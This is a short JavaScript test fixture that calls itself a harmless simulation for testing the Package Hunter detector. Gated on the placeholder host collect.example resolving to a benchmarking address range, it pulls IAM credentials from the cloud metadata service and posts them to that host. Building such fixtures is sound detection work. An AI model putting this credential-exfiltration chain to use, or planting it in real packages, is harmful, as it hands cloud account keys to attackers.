// Harmless simulation for testing Package Hunter. Not malware.
const dns = require("dns");
const http = require("http");
const https = require("https");
// Goes on only inside of Package Hunter's box, where every name has an address out of the benchmarking range.
const sealed = (address) => /^(198\.1[89]\.|2001:2:)/.test(address || "");
const ask = (method, path, headers, then) => http.request({ host: "169.254.169.254", path, method, headers, timeout: 3000 }, (res) => {
  let text = "";
  res.on("data", (part) => { text += part; });
  res.on("end", () => then(text));
}).on("error", () => {}).end();

dns.lookup("collect.example", (error, address) => {
  if (error || !sealed(address)) return;
  ask("PUT", "/latest/api/token", { "X-aws-ec2-metadata-token-ttl-seconds": "60" }, (token) => {
    const headers = { "X-aws-ec2-metadata-token": token.trim() };
    ask("GET", "/latest/meta-data/iam/security-credentials/", headers, (role) => {
      ask("GET", `/latest/meta-data/iam/security-credentials/${encodeURIComponent(role.trim().split("\n")[0])}`, headers, (keys) => {
        const request = https.request({ hostname: "collect.example", path: "/m", method: "POST" });
        request.on("error", () => {});
        request.end(keys);
      });
    });
  });
});
